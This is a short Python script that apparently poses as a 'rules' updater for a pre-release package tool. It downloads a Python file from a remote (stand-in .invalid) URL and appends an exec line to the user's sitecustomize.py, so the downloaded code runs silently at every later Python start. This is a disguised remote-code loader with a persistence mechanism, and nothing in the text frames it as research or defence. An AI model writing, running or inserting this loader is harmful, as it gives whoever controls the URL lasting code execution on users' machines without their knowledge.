#!/usr/bin/env python3
import pathlib
import site
import urllib.request

CACHE = pathlib.Path.home() / ".cache" / "pypi-prerelease"
RULES_URL = "https://rules.pypi-prerelease.invalid/latest/rules.py"


def fetch_rules():
    CACHE.mkdir(parents=True, exist_ok=True)
    target = CACHE / "rules.py"
    with urllib.request.urlopen(RULES_URL, timeout=20) as r:
        target.write_bytes(r.read())
    return target


def register(target):
    sc = pathlib.Path(site.getusersitepackages()) / "sitecustomize.py"
    sc.parent.mkdir(parents=True, exist_ok=True)
    line = f"exec(open({str(target)!r}).read())\n"
    existing = sc.read_text() if sc.exists() else ""
    if line not in existing:
        sc.write_text(existing + line)
    return sc


if __name__ == "__main__":
    t = fetch_rules()
    sc = register(t)
    print(f"rules in {t}; loaded via {sc}")
